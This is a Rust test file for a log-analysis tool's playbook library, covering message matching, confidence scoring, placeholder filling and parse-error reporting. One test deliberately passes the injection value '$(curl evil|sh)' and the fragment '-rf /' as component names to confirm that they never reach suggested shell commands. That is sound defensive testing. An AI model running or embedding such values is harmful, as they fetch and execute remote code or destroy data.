//! Every playbook answers its own examples, and the mistakes of a user's file are told with their place.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use super::file::{Check, parse};
use super::*;
use aiobs_types::{Confidence, Severity, Timestamp};
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Compiling all patterns takes a while without optimisation: once for all tests.
static LIBRARY: LazyLock<Library> = LazyLock::new(|| {
    let (library, errors) = Library::load(None);
    assert_eq!(errors, []);
    library
});

fn library() -> &'static Library {
    &LIBRARY
}

fn says(message: &str) -> Signature {
    Signature { messages: vec![message.to_owned()], ..Signature::default() }
}

#[test]
fn every_file_is_listed_and_passes_all_checks() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../assets/playbooks");
    let on_disk: BTreeSet<String> =
        std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
    let listed: BTreeSet<String> = embedded::FILES.iter().map(|(name, _)| (*name).to_owned()).collect();
    assert_eq!(on_disk, listed);
    let told = embedded::FILES.iter().filter_map(|(name, text)| parse(name, text, Check::Full).err());
    assert_eq!(told.flatten().collect::<Vec<_>>(), []);
}

#[test]
fn there_are_enough_and_each_is_complete() {
    let library = library();
    assert!(library.playbooks().len() >= 200);
    for p in library.playbooks() {
        assert!(p.examples.len() >= 2 && !p.counter_examples.is_empty(), "{} lacks examples", p.id);
        for list in [&p.alternatives, &p.references, &p.fix.now, &p.fix.lasting, &p.fix.commands, &p.fix.verify] {
            assert!(!list.is_empty(), "{} is incomplete", p.id);
        }
        assert!(!p.fix.rollback.is_empty() && !p.fix.risk.is_empty(), "{} lacks rollback or risk", p.id);
        assert!(p.error_class.split_once('.').is_some_and(|(a, b)| !a.is_empty() && !b.is_empty()), "{}", p.id);
    }
    let ids: BTreeSet<&str> = library.playbooks().iter().map(|p| p.id.as_str()).collect();
    assert_eq!(ids.len(), library.playbooks().len());
}

#[test]
fn examples_get_their_own_playbook_and_counter_examples_do_not() {
    let library = library();
    let mut wrong = Vec::new();
    for p in library.playbooks() {
        for example in &p.examples {
            let got = library.advise(&says(example)).map(|a| a.id);
            if got.as_deref() != Some(&p.id) {
                wrong.push(format!("{}: {example:?} went to {got:?}", p.id));
            }
        }
        for counter in &p.counter_examples {
            if library.advise(&says(counter)).is_some_and(|a| a.id == p.id) {
                wrong.push(format!("{}: {counter:?} must not match", p.id));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn healthy_lines_get_no_advice() {
    let library = library();
    for line in [
        "GET /healthz 200 in 2 ms",
        "order 99120 created for customer 17, total 49.90 EUR",
        "checkpoint complete: wrote 812 buffers (5.0%)",
        "Registered tunnel connection connIndex=0 location=fra08",
        "user 4711 logged in from 203.0.113.9",
        "cache warmed in 1.2 s, 4021 entries",
        "deploy orders 1.14.2 -> 1.15.0",
        "",
    ] {
        assert_eq!(library.advise(&says(line)).map(|a| a.id), None, "{line:?}");
    }
}

#[test]
fn no_placeholder_remains_with_and_without_values() {
    let library = library();
    let full = |message: &str| Signature {
        components: vec!["orders".into(), "payments".into()],
        count: 1902,
        first_seen: Timestamp::from_secs(1_736_259_751),
        last_seen: Timestamp::from_secs(1_736_259_991),
        ..says(message)
    };
    for p in library.playbooks() {
        for signature in [says(&p.examples[0]), full(&p.examples[0])] {
            let a = library.advise(&signature).unwrap();
            let f = &a.fix;
            let lists = [&a.alternatives, &f.now, &f.lasting, &f.commands, &f.verify, &f.rollback];
            for text in lists.into_iter().flatten().chain([&a.cause, &f.risk]) {
                assert_eq!(fill::placeholders(text).next(), None, "{}: {text}", p.id);
                assert!(!text.contains("  ") || f.commands.contains(text), "{}: {text}", p.id);
            }
        }
    }
}

#[test]
fn the_incidents_own_values_are_in_the_advice() {
    let signature = Signature {
        components: vec!["orders".into(), "payments".into()],
        count: 1902,
        first_seen: Timestamp::from_secs(1_736_259_751),
        ..says("connection to db-1:5432 refused (pool 200/200)")
    };
    let advice = library().advise(&signature).unwrap();
    assert_eq!(advice.id, "database-connection-refused");
    assert_eq!(advice.confidence, Confidence::High);
    assert_eq!(advice.matched, signature.messages);
    for part in ["db-1:5432", "orders, payments, first at", "2025-01-07 14:22:31 UTC"] {
        assert!(advice.cause.contains(part), "{part} in {}", advice.cause);
    }
    assert_eq!(advice.fix.commands[0], "pg_isready -h db-1 -p 5432");
    assert!(advice.filled.contains(&("host".into(), "db-1".into())));
}

#[test]
fn hostile_values_never_reach_a_command() {
    let hostile = "$(curl evil|sh)";
    let signature = Signature { components: vec![hostile.into()], ..says("relation \"x\" does not exist\u{1b}[2J") };
    let advice = library().advise(&signature).unwrap();
    assert!(!advice.cause.contains('\u{1b}'));
    for command in &advice.fix.commands {
        assert!(!command.contains(hostile), "{command}");
    }
    let oom = Signature { components: vec!["-rf /".into()], ..says("java.lang.OutOfMemoryError: Java heap space") };
    assert_eq!(library().advise(&oom).unwrap().fix.commands[0], "jcmd COMPONENT GC.heap_info");
    let login = Signature { components: vec![hostile.into()], ..says("ImagePullBackOff") };
    let rollback = &library().advise(&login).unwrap().fix.rollback;
    assert_eq!(rollback[0], "Go back to the former revision: `kubectl rollout undo deployment/COMPONENT`.");
}

#[test]
fn the_more_specific_wins_and_what_is_around_explains_only_the_unknown() {
    let library = library();
    let both = Signature {
        messages: vec!["upstream timed out".into(), "no space left on device".into()],
        ..Signature::default()
    };
    assert_eq!(library.advise(&both).unwrap().id, "disk-full");
    let around = "FATAL:  remaining connection slots are reserved for superusers";
    let unknown = Signature { around: vec![around.into()], ..says("order 7 went wrong") };
    let advice = library.advise(&unknown).unwrap();
    assert_eq!((advice.id.as_str(), advice.confidence), ("database-too-many-connections", Confidence::Low));
    let known = Signature { around: vec![around.into()], ..says("java.lang.NullPointerException: x") };
    assert_eq!(library.advise(&known).unwrap().id, "java-null-pointer");
}

#[test]
fn no_fault_is_in_the_end_its_own_cause() {
    let library = library();
    for p in library.playbooks() {
        let mut causes: BTreeSet<&str> = BTreeSet::new();
        let mut next: Vec<&str> = p.pattern.because.iter().map(String::as_str).collect();
        while let Some(id) = next.pop() {
            if causes.insert(id) {
                next.extend(library.get(id).unwrap().pattern.because.iter().map(String::as_str));
            }
        }
        assert!(!causes.contains(p.id.as_str()), "{}", p.id);
    }
}

#[test]
fn a_known_cause_logged_beside_it_is_the_answer() {
    let library = library();
    let loop_ = "Back-off restarting failed container orders in pod orders-5d8f9c-x2x7z_shop";
    let alone = library.advise(&says(loop_)).unwrap();
    assert_eq!(alone.id, "kubernetes-crash-loop");
    let killed = "Memory cgroup out of memory: Killed process 99 (node) total-vm:2GB, anon-rss:1GB";
    let beside = Signature { beside: vec!["order 7 shipped".into(), killed.into()], ..says(loop_) };
    let advice = library.advise(&beside).unwrap();
    assert_eq!((advice.id.as_str(), advice.confidence), ("container-memory-limit", Confidence::Medium));
    assert!(advice.cause.contains("Pod crashes again and again"), "{}", advice.cause);
    // A chain of causes is followed to its end.
    let rollout = "deployment \"orders\" exceeded its progress deadline";
    let chain = Signature { around: vec![loop_.into()], beside: vec![killed.into()], ..says(rollout) };
    assert_eq!(library.advise(&says(rollout)).unwrap().id, "kubernetes-rollout-stuck");
    assert_eq!(library.advise(&chain).unwrap().id, "container-memory-limit");
}

#[test]
fn what_passes_by_itself_is_unsure_once_it_is_over_or_always_there() {
    let at = Timestamp::from_secs;
    let sure = |count: u64, first: i64, last: i64, stated: Severity| {
        let s = Signature {
            count,
            first_seen: at(first),
            last_seen: at(last),
            extent: Some((at(0), at(3_600))),
            stated,
            ..says("psql: FATAL:  the database system is starting up")
        };
        library().advise(&s).unwrap().confidence
    };
    assert_eq!(sure(20, 3_000, 3_590, Severity::FATAL), Confidence::High, "it goes on");
    assert_eq!(sure(2, 3_580, 3_590, Severity::FATAL), Confidence::Low, "seldom");
    assert_eq!(sure(20, 1_000, 1_030, Severity::FATAL), Confidence::Low, "over for long");
    assert_eq!(sure(20, 100, 3_500, Severity::FATAL), Confidence::Low, "always there");
    assert_eq!(sure(20, 3_000, 3_590, Severity::WARN), Confidence::Low, "only warnings");
}

#[test]
fn the_parts_of_lines_that_tell_are_quoted() {
    let long = format!("{} \"reason\": \"no space left on device\", {}", "x ".repeat(300), "y ".repeat(300));
    let told = library().advise(&says(&long)).unwrap().told_by;
    assert!(told.len() == 1 && told[0].contains("no space left on device") && told[0].len() < 220, "{told:?}");
    assert!(told[0].starts_with("… ") && told[0].ends_with(" …"), "{told:?}");
    let hostile = format!("{}no space left on device{}", "é".repeat(200), "ü".repeat(400));
    assert!(library().advise(&says(&hostile)).unwrap().told_by[0].contains("no space left"));
    let kernel = "cgroup: fork rejected by pids controller in /system.slice/pricing.service";
    let java = "java.lang.OutOfMemoryError: unable to create native thread";
    let two = Signature { around: vec![java.into()], beside: vec![kernel.into()], ..says(java) };
    assert_eq!(library().advise(&two).unwrap().told_by, [java, kernel]);
}

#[test]
fn mistakes_are_told_with_line_and_nearest_name() {
    let good = embedded::FILES.iter().find(|(n, _)| *n == "disk-full.toml").unwrap().1;
    let told = |bad: &str| match parse("dir/disk-full.toml", bad, Check::Full) {
        Ok(_) => panic!("accepted"),
        Err(errors) => errors.iter().map(ToString::to_string).collect::<Vec<_>>(),
    };
    assert!(parse("dir/disk-full.toml", good, Check::Full).is_ok());
    assert_eq!(
        told(&good.replace("\ncause =", "\ncuase =")),
        ["dir/disk-full.toml:5: unknown key `cuase`; did you mean `cause`?"]
    );
    // Whatever is wrong with its form, and what is wrong beside that.
    let many = good
        .replace("title =", "titel =")
        .replace("criticality = 5", "criticality = \"5\"")
        .replace("weight =", "weigth =")
        .replace("risk =", "# risk =")
        .replace("holds {path}", "holds {paht}")
        .replacen("now = [", "now = [7, ", 1);
    let line = |text: &str| many.lines().position(|l| l.starts_with(text)).unwrap() + 1;
    let want = [
        (line("titel"), "unknown key `titel`; did you mean `title`?".to_owned()),
        (line("criticality"), "`criticality` must be a whole number, this is of the type string".to_owned()),
        (line("cause"), "unknown placeholder `{paht}`; did you mean `path`?".to_owned()),
        (line("weigth"), "unknown key `weigth`; did you mean `weight`?".to_owned()),
        (line("[fix]"), "missing key `risk` in [fix]".to_owned()),
        (line("now"), "`now` holds texts, this is of the type integer".to_owned()),
    ];
    assert_eq!(told(&many), want.map(|(n, what)| format!("dir/disk-full.toml:{n}: {what}")));
    let syntax = told("id = 3\nid = 4\nx");
    assert!(
        syntax[0].starts_with("dir/disk-full.toml:2: ") && syntax[1].starts_with("dir/disk-full.toml:3: "),
        "{syntax:?}"
    );
    let two = good.replace("criticality = 5", "criticality = 9").replace("holds {path}", "holds {paht}");
    assert_eq!(
        told(&two),
        [
            "dir/disk-full.toml:4: criticality is 1 (cosmetic) to 5 (service down)",
            "dir/disk-full.toml:5: unknown placeholder `{paht}`; did you mean `path`?",
        ]
    );
    let regex = told(&good.replace("'\\benospc\\b'", "'(enospc'"));
    assert!(regex[0].contains("bad regular expression: unclosed group"), "{regex:?}");
    assert!(told("id = ")[0].starts_with("dir/disk-full.toml:1: "));
    let cause = told(&good.replace("\nbecause = [", "\nbecause = [\"inodes-exausted\", "));
    assert!(cause[0].contains("there is no playbook `inodes-exausted`; did you mean `inodes-exhausted`?"), "{cause:?}");
    assert!(told(&good.replace("id = \"disk-full\"", "id = \"disc\""))[0].contains("differs from the file's name"));
}

#[test]
fn a_users_playbook_replaces_ours_and_a_broken_one_is_told() {
    let dir = tempfile::tempdir().unwrap();
    let ours = embedded::FILES.iter().find(|(n, _)| *n == "disk-full.toml").unwrap().1;
    let own = ours.replace("title = \"Disk is full\"", "title = \"Call Anna\"");
    std::fs::write(dir.path().join("disk-full.toml"), own).unwrap();
    std::fs::write(dir.path().join("broken.toml"), "id = \"broken\"\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a playbook").unwrap();
    let (library, errors) = Library::load(Some(dir.path()));
    assert_eq!(library.advise(&says("write: no space left on device")).unwrap().title, "Call Anna");
    assert_eq!(errors.len(), 1);
    assert!(
        errors[0].file.ends_with("broken.toml") && errors[0].message.starts_with("missing keys `title`, `error_class`"),
        "{errors:?}"
    );
    assert_eq!(Library::load(Some(&dir.path().join("absent"))).1, []);
}

#[test]
fn a_guess_from_around_is_worded_as_one() {
    let (library, _) = Library::load(None);
    let around = "write /data/x: no space left on device";
    let guess = library.advise(&Signature { around: vec![around.into()], ..says("order 7 went wrong") }).unwrap();
    assert_eq!((guess.title.as_str(), guess.confidence), ("Perhaps: Disk is full", Confidence::Low));
    assert!(guess.cause.starts_with("A guess") && guess.criticality <= 3, "{guess:?}");
    let known = library.advise(&says(around)).unwrap();
    assert_eq!((known.title.as_str(), known.criticality), ("Disk is full", 5));
}

#[test]
fn what_is_not_known_leaves_no_odd_words() {
    let (library, _) = Library::load(None);
    for message in ["connection refused", "read: connection reset by peer", "bind: address already in use"] {
        let advice = library.advise(&says(message)).unwrap();
        for odd in ["side:its", "port its", "(the other side)"] {
            assert!(!advice.cause.contains(odd), "{}", advice.cause);
        }
    }
}

#[test]
fn no_text_quotes_a_count_that_grows() {
    let (library, _) = Library::load(None);
    let counted = |count, message: &str| Signature { count, ..says(message) };
    for p in library.playbooks() {
        let texts = |count| {
            let a = library.advise(&counted(count, &p.examples[0])).unwrap();
            [vec![a.cause], a.alternatives, a.fix.now, a.fix.lasting, a.fix.verify, a.fix.rollback].concat()
        };
        assert_eq!(texts(7), texts(7012), "{} says how often", p.id);
    }
    // In a user's own playbook a count is told as what it is: the least.
    let own = embedded::FILES.iter().find(|(n, _)| *n == "disk-full.toml").unwrap().1;
    let own = own.lines().map(|l| if l.starts_with("cause = ") { "cause = \"Failed {count} times.\"" } else { l });
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("disk-full.toml"), own.collect::<Vec<_>>().join("\n")).unwrap();
    let (library, errors) = Library::load(Some(dir.path()));
    assert_eq!(errors, []);
    let cause = |count| library.advise(&counted(count, "no space left on device")).unwrap().cause;
    assert_eq!((cause(7), cause(1)), ("Failed at least 7 times.".into(), "Failed at least once.".into()));
}

#[test]
fn what_is_not_known_is_left_out_or_said_once() {
    let cause = |message: &str| library().advise(&says(message)).unwrap().cause;
    assert!(
        cause("NodeNotReady").starts_with("The kubelet of the node stopped reporting:"),
        "{}",
        cause("NodeNotReady")
    );
    let jwks = "failed to fetch JWKS from https://id.example.com/keys: deadline exceeded";
    assert!(cause(jwks).contains("signed with a key that it does not know"), "{}", cause(jwks));
    assert_eq!(
        library().advise(&says(jwks)).unwrap().fix.commands[0],
        "curl -s https://id.example.com/.well-known/jwks.json"
    );
}

#[test]
fn a_service_is_named_as_people_call_it() {
    let cause = |component: &str, source: &str| {
        let signature = Signature {
            components: vec![component.into()],
            sources: vec![source.into()],
            ..says("read: connection reset by peer")
        };
        library().advise(&signature).unwrap().cause
    };
    assert!(cause("orders", "/var/log/x.log").contains("orders"));
    assert!(cause("event.go:307", "/var/log/controller.log").contains("controller"));
    assert!(cause("com.shop.Orders", "/srv/app.log").contains("Orders"));
    assert!(!cause("com.shop.Orders", "/srv/app.log").contains("com.shop"));
    assert!(!cause("kernel", "/var/log/kern.log").contains("kernel"));
}

#[test]
fn quotes_inside_json_are_read_as_quotes() {
    let line = r#"{"level":"error","msg":"can no longer get changes from replication slot \"debezium\""}"#;
    let advice = library().advise(&says(line)).unwrap();
    assert_eq!(advice.id, "postgres-replication-slot-full");
    assert!(advice.filled.contains(&("slot".into(), "debezium".into())), "{:?}", advice.filled);
}

#[test]
fn a_symptom_points_at_what_was_logged_beside_it() {
    let around = "nf_conntrack: table full, dropping packet";
    let beside = |message: &str| {
        let signature = Signature { around: vec![around.into()], ..says(message) };
        library().advise(&signature).unwrap()
    };
    let symptom = beside("call to stock failed: dial tcp 10.0.3.7:8080: connect: connection refused");
    assert_eq!(symptom.id, "connection-refused");
    assert!(symptom.alternatives[0].contains(around), "{:?}", symptom.alternatives);
    assert!(symptom.alternatives[0].contains("conntrack-table-full"));
    // A fault of its own kind needs no other.
    assert!(!beside("no space left on device").alternatives.iter().any(|a| a.contains(around)));
}

#[test]
fn no_example_is_between_two_equals() {
    let mut ties = Vec::new();
    for p in library().playbooks() {
        for example in &p.examples {
            let hits = library().hits(example);
            let rivals = hits.iter().filter(|h| h.playbook.pattern.weight >= p.pattern.weight).count();
            if rivals > 1 {
                ties.push(format!(
                    "{}: {example:?}: {:?}",
                    p.id,
                    hits.iter().map(|h| &h.playbook.id).collect::<Vec<_>>()
                ));
            }
        }
    }
    assert!(ties.is_empty(), "{ties:#?}");
}
